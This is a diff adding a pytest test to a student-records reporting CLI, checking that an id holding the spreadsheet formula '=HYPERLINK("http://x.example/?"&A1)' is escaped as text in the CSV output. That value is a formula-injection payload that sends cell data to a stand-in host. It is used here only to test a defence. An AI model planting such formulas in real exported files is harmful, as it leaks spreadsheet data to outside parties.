@@ -233,3 +233,28 @@ def test_diff_says_what_changed_between_two_releases(tmp_path, fast_env):
     assert lines["dim_student"] == ["2", "2", "0", "0", "0"]
     assert "2025-06" in result.stdout and "2025-07" in result.stdout and "2025-05 " not in result.stdout
     assert "OO-" not in result.stdout and "1001" not in result.stdout
+
+
+@pytest.mark.slow
+def test_the_student_years_csv_runs_no_formula_a_source_id_carries(tmp_path, fast_env):
+    """A study-right id typed ``=HYPERLINK(…)`` in the source reaches the report as text a spreadsheet shows."""
+    import copy
+    import csv
+
+    from tests.conftest import run_cli
+    from tests.landing import valid_rows, write_landing
+
+    rows = copy.deepcopy(valid_rows())
+    old = rows["study_rights"][0]["study_right_id"]
+    new = '=HYPERLINK("http://x.example/?"&A1)'
+    for table in ("study_rights", "status_periods", "additional_periods", "assessed_units", "workplace_periods"):
+        for row in rows[table]:
+            if row.get("study_right_id") == old:
+                row["study_right_id"] = new
+    write_landing(tmp_path / "landing", rows)
+    out = tmp_path / "report.csv"
+    args = ["--landing", str(tmp_path / "landing"), "--from", "2025-01-01", "--to", "2025-12-31", "--out", str(out)]
+    result = run_cli("student-years", *args, env=fast_env)
+    assert result.returncode == 0, result.stderr
+    ids = [r["study_right_id"] for r in csv.DictReader(out.open(encoding="utf-8"))]
+    assert "'" + new in ids and new not in ids
